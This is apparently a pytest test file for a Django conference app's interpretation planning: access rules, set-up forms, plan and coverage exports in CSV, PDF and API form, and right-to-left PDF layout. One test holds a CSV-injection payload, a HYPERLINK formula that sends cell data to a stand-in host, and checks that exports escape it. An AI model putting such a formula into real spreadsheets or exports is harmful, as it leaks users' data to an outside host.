import csv
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext
from pypdf import PdfReader
from reportlab.lib.units import mm
from rest_framework.test import APIClient

from interpretation.models import (
    InterpretationMode,
    Language,
    LanguageChannel,
    SessionInterpretation,
)
from registration import services as registration_services
from tests.factories import SessionFactory, SittingFactory, register
from tests.interpretation.test_plan import five_days
from tests.pdfs import (
    LANGUAGES,
    assert_printed,
    drawn_texts,
    logical,
    page_lines,
    pdf_in,
    read,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def session():
    session = SessionFactory(slug="ieg")
    five_days(session)
    return session


PAGE = "/sessions/ieg/interpretation/"


def test_anonymous_users_are_sent_to_log_in(client, session):
    response = client.get(PAGE)

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(
    "path",
    [
        PAGE,
        "/sessions/ieg/interpretation/plan.csv",
        "/sessions/ieg/interpretation/coverage.pdf",
    ],
)
def test_a_delegate_may_not_see_the_plan_or_the_coverage(delegate_client, session, path):
    assert delegate_client.get(path).status_code == 403


def test_a_delegate_may_not_change_the_set_up(delegate_client, session):
    response = delegate_client.post(PAGE, {"mode": "rsi", "rsi_platform": "X", "floor_channel": 0})

    assert response.status_code == 403
    assert not SessionInterpretation.objects.exists()


def test_a_coordinator_sees_the_plan(client, coordinator, session):
    client.force_login(coordinator)

    response = client.get(PAGE)

    assert response.status_code == 200
    assert response.context["plan"].interpreter_sittings == 140


def test_an_officer_sees_the_plan(officer_client, session):
    assert officer_client.get(PAGE).status_code == 200


def test_the_session_page_links_the_plan_for_a_coordinator_only(
    client, coordinator, delegate, session
):
    client.force_login(delegate)
    hidden = client.get(session.get_absolute_url()).content.decode()
    client.force_login(coordinator)
    shown = client.get(session.get_absolute_url()).content.decode()

    assert (PAGE in hidden, PAGE in shown) == (False, True)


def test_the_set_up_form_saves_the_channels(officer_client, session):
    data = {"mode": "both", "rsi_platform": "Interprefy", "floor_channel": 0}
    for number, code in enumerate(session.languages, start=1):
        data |= {f"room_{code}": number, f"online_{code}": f"Channel {code}"}

    response = officer_client.post(PAGE, data)

    assert response.status_code == 302
    assert LanguageChannel.objects.filter(session=session).count() == 6
    assert LanguageChannel.objects.get(language__code="fr").room_channel == 4


def test_a_set_up_with_a_shared_channel_is_refused_and_changes_nothing(officer_client, session):
    data = {"mode": "both", "rsi_platform": "Interprefy", "floor_channel": 1, "room_en": 1}

    response = officer_client.post(PAGE, data)

    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    assert not SessionInterpretation.objects.exists()


def test_a_sitting_gets_its_own_languages(officer_client, session):
    sitting = session.sittings.first()

    officer_client.post(
        f"/sessions/ieg/interpretation/sittings/{sitting.pk}/",
        {"own_languages": "on", "languages": ["en", "fr"], "mode": ""},
    )

    plan = officer_client.get(PAGE).context["plan"]
    assert plan.interpreter_sittings == 9 * 14 + 4


def test_a_sitting_of_another_session_is_not_found(officer_client, session):
    other = SittingFactory(session=SessionFactory())

    response = officer_client.get(f"/sessions/ieg/interpretation/sittings/{other.pk}/")

    assert response.status_code == 404


def test_the_plan_csv_has_a_row_per_sitting_and_the_total(officer_client, session):
    response = officer_client.get("/sessions/ieg/interpretation/plan.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [row[6] for row in rows[1:11]] == ["14"] * 10
    assert rows[-1][6] == "140"


def test_the_coverage_pdf_reads_back(officer_client, session):
    registration = register(session, listening_language="fr")
    registration_services.approve(registration, actor=None)

    response = officer_client.get("/sessions/ieg/interpretation/coverage.pdf")

    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert response["Content-Type"] == "application/pdf"
    assert "French" in text and "interpretation coverage" in text


def test_the_plan_pdf_reads_back(officer_client, session):
    response = officer_client.get("/sessions/ieg/interpretation/plan.pdf")

    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "interpretation plan" in text and "140" in text


def test_an_unknown_export_is_not_found(officer_client, session):
    assert officer_client.get("/sessions/ieg/interpretation/plan.xlsx").status_code == 404


def test_the_page_uses_a_fixed_number_of_queries(
    officer_client, session, django_assert_num_queries
):
    officer_client.get(PAGE)
    with django_assert_num_queries(12) as few:
        officer_client.get(PAGE)
    for _ in range(5):
        SittingFactory(session=session)
    for language in ("fr", "en", "ar"):
        for _ in range(4):
            registration = register(session, listening_language=language)
            registration_services.approve(registration, actor=None)

    with django_assert_num_queries(len(few.captured_queries)):
        officer_client.get(PAGE)


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


API = "/api/v1/sessions/ieg/interpretation-plan/"


def test_the_api_gives_the_plan_to_a_coordinator(coordinator, session):
    response = api(coordinator).get(API)

    body = response.json()
    assert response.status_code == 200
    assert body["interpreter_sittings"] == 140
    assert set(body["interpreters_per_sitting"].values()) == {14}
    assert body["sittings"][0]["booths"] == 6
    assert body["sittings"][0]["teams"]["ar"] == 3


def test_the_api_refuses_a_delegate_and_anonymous_users(delegate, session):
    assert api(delegate).get(API).status_code == 403
    assert APIClient().get(API).status_code in (401, 403)


def test_the_api_plan_of_an_unknown_session_is_not_found(coordinator):
    assert api(coordinator).get("/api/v1/sessions/nope/interpretation-plan/").status_code == 404


def test_the_api_plan_uses_a_fixed_number_of_queries(
    coordinator, session, django_assert_num_queries
):
    client = api(coordinator)
    client.get(API)
    with django_assert_num_queries(4) as few:  # the session, then session_plan's three
        client.get(API)
    for _ in range(8):
        SittingFactory(session=session)

    with django_assert_num_queries(len(few.captured_queries)):
        client.get(API)


def test_the_plan_names_the_mode_and_what_to_look_at_on_the_page_and_in_the_csv(
    officer_client, session
):
    from tests.factories import RoomFactory

    SittingFactory(session=session, room=RoomFactory(interpretation_booths=4))

    page = officer_client.get(PAGE).content.decode()
    rows = list(
        csv.reader(
            io.StringIO(
                officer_client.get("/sessions/ieg/interpretation/plan.csv").content.decode()
            )
        )
    )

    assert "Booths in the room" in page and "fewer booths than languages" in page
    assert any(
        row[3] == "Booths in the room" and "the room has fewer booths than languages" in row[7]
        for row in rows
    )


def test_the_page_explains_the_rules_with_the_figures_of_the_rules(
    officer_client, session, monkeypatch
):
    from interpretation import staffing

    monkeypatch.setattr(staffing, "SIX_LANGUAGE_TEAM", 15)
    monkeypatch.setattr(staffing, "STANDARD_HOURS", 4)

    text = officer_client.get(PAGE).text

    assert "need 15 interpreters per sitting" in text and "up to 4 hours" in text


def test_the_plan_and_coverage_csv_write_a_formula_in_a_title_as_text(officer_client, session):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    session.sittings.update(title=formula)
    registration_services.approve(register(session, listening_language="fr"), actor=None)

    for what in ("plan", "coverage"):
        response = officer_client.get(f"/sessions/ieg/interpretation/{what}.csv")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows[1][0] == "'" + formula


# The PDFs in every interface language, read back


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_plan_pdf_prints_in_every_language(officer_client, session, language):
    pdf = pdf_in(officer_client, "/sessions/ieg/interpretation/plan.pdf", language)

    with translation.override(language):
        title = gettext("%(session)s: interpretation plan") % {"session": session.title}
        words = [
            gettext("Sitting"),
            gettext("Interpreter-sittings"),
            str(InterpretationMode.BOOTHS.label),
        ]
    assert_printed(pdf, title, *words, "140")


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_coverage_pdf_prints_in_every_language(officer_client, session, language):
    registration = register(session, listening_language="fr")
    registration_services.approve(registration, actor=None)

    pdf = pdf_in(officer_client, "/sessions/ieg/interpretation/coverage.pdf", language)

    with translation.override(language):
        title = gettext("%(session)s: interpretation coverage") % {"session": session.title}
        words = [
            gettext("Listeners in person"),
            str(Language.objects.get(code="fr")),
            gettext("yes"),
        ]
    assert_printed(pdf, title, *words)


def test_the_plan_pdf_in_arabic_runs_from_right_to_left(officer_client, session):
    pdf = pdf_in(officer_client, "/sessions/ieg/interpretation/plan.pdf", "ar")

    reader = read(pdf)
    page = reader.pages[0]
    drawn = [item for item in drawn_texts(reader, page) if item.text.strip()]
    header = {logical(item.text): item for item in drawn if item.font.startswith("NotoSansArabic")}
    with translation.override("ar"):
        sitting, when, flags = gettext("Sitting"), gettext("When"), gettext("Flags")
    # the first column at the right, the last at the left
    assert header[sitting].x > header[when].x > header[flags].x
    assert header[sitting].right > float(page.mediabox.width) - 30 * mm
    # the title: the session's title first, at the right
    title = page_lines(drawn)[0]
    assert "".join(item.text for item in title).endswith(session.title)
    assert title[-1].right == pytest.approx(header[sitting].right, abs=5)


def test_the_plan_pdf_in_english_runs_from_left_to_right(officer_client, session):
    pdf = pdf_in(officer_client, "/sessions/ieg/interpretation/plan.pdf", "en")

    reader = read(pdf)
    drawn = [item for item in drawn_texts(reader, reader.pages[0]) if item.text.strip()]
    x = {item.text: item.x for item in drawn}
    assert x["Sitting"] < x["When"] < x["Flags"]
